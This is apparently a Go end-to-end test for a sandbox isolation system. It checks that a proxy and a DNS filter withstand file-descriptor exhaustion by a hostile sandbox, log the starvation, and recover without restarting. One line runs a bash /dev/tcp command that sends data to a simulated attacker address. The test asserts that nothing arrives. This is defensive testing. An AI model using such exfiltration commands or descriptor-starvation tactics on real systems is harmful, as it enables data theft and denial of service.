package e2e

import (
	_ "embed"
	"fmt"
	"strings"
	"testing"

	"tagout/internal/audit"
	"tagout/internal/instance"
	"tagout/internal/reason"
	"tagout/internal/testenv"
	"tagout/internal/wire"
)

//go:embed testdata/fill.py
var fillPy string

// One request of another kid, which waits for two seconds at most. It prints "served" where it was.
const (
	askProxy = `import socket
try:
    with socket.create_connection(("files.vendor.test", 80), 2) as s:
        s.sendall(b"GET /hello.txt HTTP/1.1\r\nHost: files.vendor.test\r\nConnection: close\r\n\r\n")
        print("served" if s.recv(64).startswith(b"HTTP/1.1 200 ") else "refused")
except OSError as e: print("waits", e)`
	askTCP = `import socket
try:
    with socket.create_connection(("GATEWAY", 53), 2) as s:
        s.sendall(b"\0\x23\x12\x34\x01\0\0\x01\0\0\0\0\0\0\5files\6vendor\4test\0\0\1\0\1")
        a = s.recv(512)
        print("served" if len(a) > 8 and a[5] & 15 == 0 and a[9] == 1 else "refused")
except OSError as e: print("waits", e)`
)

// TestProxyWithoutDescriptors: what one kid fills is not served to others, which are refused or wait. Nothing ends, the
// log says so, and with the descriptors the service comes back.
func TestProxyWithoutDescriptors(t *testing.T) {
	t.Parallel()
	box := start(t)
	kid, other := box.Spawn(card, hostile(t, box)), box.Spawn(card, hostile(t, box))
	// A request whose head does not end: the proxy keeps the connection for as long as it waits for the rest.
	withoutDescriptors(t, box, kid, other, instance.Proxy, askProxy, box.Inst.Gateway().String(), instance.PortExplicit, 200,
		fmt.Sprintf("%x", "GET http://files.vendor.test/hello.txt HTTP/1.1\r\n"))
	if _, n := box.Net.Attacker.Total(); n != 0 {
		t.Errorf("%d bytes reached the attacker", n)
	}
}

// TestDNSFilterWithoutDescriptors: the same over TCP. UDP needs none and is answered all the while.
func TestDNSFilterWithoutDescriptors(t *testing.T) {
	t.Parallel()
	box := start(t)
	kid, other := box.Spawn(card, hostile(t, box)), box.Spawn(card, hostile(t, box))
	gateway := box.Inst.Gateway().String()
	withoutDescriptors(t, box, kid, other, instance.DNSFilter, strings.ReplaceAll(askTCP, "GATEWAY", gateway), gateway, instance.PortDNS, 12, "00")
}

// spareFiles is how many more files the daemon may open, less than a kid may hold open in it.
const spareFiles = 4

func withoutDescriptors(t *testing.T, box *testenv.Box, kid, other wire.Kid, daemon, ask, host string, port, count int, say string) {
	t.Helper()
	asked := func() string {
		return strings.TrimSpace(box.Exec(other.Name, "/usr/bin/python3", "-c", ask).Stdout)
	}
	fill := func() (enough func()) {
		box.Exec(kid.Name, "/usr/bin/rm", "-f", "filled", "enough")
		ended := make(chan error, 1)
		go func() {
			out, err := box.TryExec(t.Context(), kid.Name, wire.ExecRequest{
				Argv: []string{"/usr/bin/python3", "-c", fillPy, host, fmt.Sprint(port), fmt.Sprint(count), say}})
			if err == nil && out.Exit.Code != 0 {
				err = fmt.Errorf("%+v", out)
			}
			ended <- err
		}()
		box.Until(soon, "the kid's connections are open", func() error {
			if out := box.Exec(kid.Name, "/usr/bin/test", "-e", "filled"); out.Exit.Code != 0 {
				return fmt.Errorf("not yet")
			}
			return nil
		})
		return func() {
			box.Exec(kid.Name, "/usr/bin/touch", "enough")
			if err := <-ended; err != nil {
				t.Errorf("the kid that fills: %v", err)
			}
		}
	}
	starved := func(outcome string) func(*audit.Record) bool {
		return func(r *audit.Record) bool {
			return r.Event == audit.EventStarved && r.Daemon == daemon && r.Outcome == outcome
		}
	}
	// With its own limit the daemon has room for as many.
	enough := fill()
	if got := asked(); got != "served" {
		t.Errorf("beside %d connections and with its own limit %s says %q", count, daemon, got)
	}
	enough()
	if recs := box.Records(starved(audit.OutcomeFail)); len(recs) != 0 {
		t.Errorf("with its own limit: %+v", recs)
	}

	before := box.PID(daemon)
	defer box.LeaveFiles(daemon, spareFiles)()
	enough = fill()
	rec := box.WaitRecord(daemon+" without descriptors", starved(audit.OutcomeFail))
	if rec.Reason != reason.Capacity || rec.Count == 0 || !strings.Contains(rec.Detail, "too many open files") {
		t.Errorf("record %+v", rec)
	}
	if got := asked(); got == "served" || got == "" {
		t.Errorf("%s has no descriptor left, and another kid gets %q", daemon, got)
	}
	if out := box.Exec(other.Name, "/usr/bin/getent", "ahostsv4", "files.vendor.test"); out.Exit.Code != 0 {
		t.Errorf("a lookup over UDP: %+v", out)
	}
	box.Exec(other.Name, "/bin/bash", "-c", fmt.Sprintf("exec 3<>/dev/tcp/%v/80 && echo out >&3", box.Net.EvilAddr()))
	enough()
	box.Until(soon, daemon+" serves again", func() error { // the limit is as low as before
		if got := asked(); got != "served" {
			return fmt.Errorf("it says %q", got)
		}
		return nil
	})
	box.WaitRecord(daemon+" with descriptors again", starved(audit.OutcomeOK))
	if now := box.PID(daemon); now != before {
		t.Errorf("%s ended: it was process %d and is %d", daemon, before, now)
	}
}
